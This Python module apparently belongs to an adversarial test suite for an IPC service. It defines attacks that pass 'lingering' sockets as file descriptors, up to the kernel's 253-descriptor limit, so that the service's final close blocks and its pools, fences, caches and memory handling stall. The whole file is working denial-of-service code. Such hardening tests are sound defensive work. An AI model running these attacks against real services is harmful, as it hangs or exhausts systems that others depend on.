"""Attacks by descriptors whose last close waits, in each place of the protocol where one can be sent."""

from __future__ import annotations

import os
import threading
from contextlib import suppress
from typing import TYPE_CHECKING

from attacks_on_memory import lingering
from enemy import REFUSED, Line, add, attack, own_burst

import driver
from burst.channel import pack

if TYPE_CHECKING:
    from collections.abc import Iterator

    from burst.channel import Channel

_MOST_SENT = (
    253  # SCM_MAX_FD: more than any receiver has room for, so that the kernel closes the rest while it receives
)


def sent_last(channel: Channel, data: bytes, before: int = 0) -> None:
    """A message whose last descriptor lingers; ours is closed before it is received, so that the receiver's is the
    last. `before`: harmless ones in front of it.
    """
    fd, harmless = lingering(), os.open("/dev/null", os.O_RDONLY)
    try:
        with suppress(*REFUSED):
            channel.send_raw(data, [harmless] * before + [fd])
    finally:
        os.close(harmless)
        threading.Thread(target=os.close, args=(fd,), daemon=True).start()


@attack("new")
def excess_descriptors(address: str) -> Iterator[object]:
    """A lingering socket behind 252 other descriptors, more than there is room for: to the service, lane and burst."""
    held = []
    while True:
        device, line = driver.connect(address), Line(address)
        context, rest = own_burst(device.prepare(add()))
        held.append((device, line, rest, lane := line.opened("lane")))
        for channel in (line.channel, lane, context):
            for _ in range(50):  # so that our descriptor is closed before the device's
                channel.send(["free_memory", 0])
            sent_last(channel, pack(["free_memory", 0]), _MOST_SENT - 1)
        yield
        if len(held) > 20:
            held.pop(0)[0].close()


@attack("new")
def lingering_pools(address: str) -> Iterator[object]:
    """A socket whose close waits for an hour in place of a pool, a fence, cache files and the memory of a copy."""
    while True:
        line = Line(address)
        lane = line.opened("lane")
        for _ in range(50):
            line.channel.send([1, "turns"])
        sent_last(lane, pack(["memory", 0, ["ashmem", 4096, True]]))
        sent_last(lane, pack(["memory", 1, ["mmap_fd", 4096, 1, 0]]))
        for words in (["prepare_from_cache", [1, 1], bytes(32)], ["copy_from", 1, [4], ["ashmem", 4096, True]]):
            sent_last(line.channel, pack([1, *words]))
        yield
        for channel in (lane, line.channel):
            with suppress(*REFUSED):
                channel.receive(0.2).close()
